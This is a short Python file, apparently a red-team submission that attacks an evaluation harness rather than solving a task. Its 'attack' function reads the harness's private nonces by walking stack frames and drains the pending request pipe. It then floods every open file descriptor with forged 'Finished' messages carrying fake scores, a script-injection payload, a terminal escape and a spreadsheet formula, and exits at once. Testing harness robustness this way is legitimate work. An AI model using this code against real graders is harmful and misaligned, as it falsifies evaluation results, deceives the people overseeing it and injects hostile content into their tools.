"""Sends notes of a megabyte, full of escape sequences, tags and score lines, for every case."""

import contextlib
import fcntl
import json
import os
import re
import struct
import sys
import time

CONTROL = "pipe"
NOTE = '\x1b[2J</td><script>alert(1)</script>\n=1+1\n{"scores": {"Upsampling1d": 7}}\n'


def attack(A):
    waiting = b""
    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonces = [frame.f_locals["nonce"] if frame else 0]
    if frame is not None:
        time.sleep(0.05)  # until all of them wait
        while "requests" not in frame.f_locals:
            frame = frame.f_back
        requests = frame.f_locals["requests"]
        fcntl.fcntl(requests, fcntl.F_SETFL, os.O_NONBLOCK)
        waiting = requests.read() or b""
    nonces += [int(found) for found in re.findall(rb'"nonce": ?(\d+)', waiting)]
    for nonce in nonces:
        notes = [f"{nonce} {number} {30 * NOTE}" for number in range(300)]
        header = json.dumps({"kind": "Finished", "nonce": nonce, "notes": notes}).encode()
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<4sIQ", b"MTAG", len(header), 0) + header)
    os._exit(0)
